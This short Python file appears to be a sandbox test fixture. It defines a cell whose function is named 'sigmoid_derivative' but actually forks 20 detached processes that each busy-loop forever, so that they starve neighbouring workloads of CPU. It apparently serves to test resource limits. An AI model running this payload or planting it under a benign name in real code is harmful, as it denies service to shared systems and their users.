"""Starts a crowd of processes that each use up the CPU time of a whole request, and starves the neighbours.

CPU time is counted for all of them together.
"""

CELLS = {
    "sigmoid_derivative": """
import os
def sigmoid_derivative(z):
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    while True:
        pass
"""
}

SAYS = "in time"
